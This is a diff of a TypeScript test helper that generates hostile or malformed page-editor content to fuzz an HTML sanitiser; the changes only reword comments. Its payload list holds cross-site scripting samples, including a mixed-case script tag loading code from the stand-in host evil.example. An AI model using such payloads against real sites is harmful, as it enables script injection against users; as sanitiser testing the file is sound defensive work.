@@ -1,6 +1,6 @@
 import type { Rng } from '../rng.ts'
 
-/** Ways to run a script or to leave an element, as collected by OWASP and seen in other stores. */
+/** Known ways to run a script or to break out of an element, from OWASP and from other stores. */
 const hostileHtml = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
@@ -102,7 +102,7 @@ const addresses = [
 function textOf(rng: Rng, from: readonly string[]): string {
   const parts = Array.from({ length: 1 + rng.below(4) }, () => (rng.oneIn(3) ? rng.pick(harmless) : rng.pick(from)))
   const text = parts.join('')
-  // Cut, doubled or spliced: filters fail at the seams.
+  // Truncated, doubled, or spliced, because filters fail at the seams.
   if (rng.oneIn(4)) return text.slice(0, 1 + rng.below(text.length + 1))
   if (rng.oneIn(6)) return text + text
   if (rng.oneIn(6)) {
@@ -169,12 +169,12 @@ const propsOf: Readonly<Record<string, MakeProps>> = {
   Unknown: (text) => ({ html: text() }),
 }
 
-/** Returns the content of a page as a hostile or careless editor may store it. */
+/** Returns page content as a hostile or careless editor might store it. */
 export function hostileBlocks(rng: Rng): object[] {
   return Array.from({ length: 1 + rng.below(5) }, (_, index) => {
     const type = rng.pick(Object.keys(propsOf))
     const id = rng.oneIn(12) ? hostileHtmlText(rng) : `block-${index}`
-    // Headings and names have at most 300 characters; longer ones would only be omitted.
+    // Headings and names have at most 300 characters; longer texts would be omitted.
     const text = () => hostileHtmlText(rng).slice(0, rng.oneIn(8) ? undefined : 280)
     return { type, props: { id, ...propsOf[type]!(text, rng) } }
   })
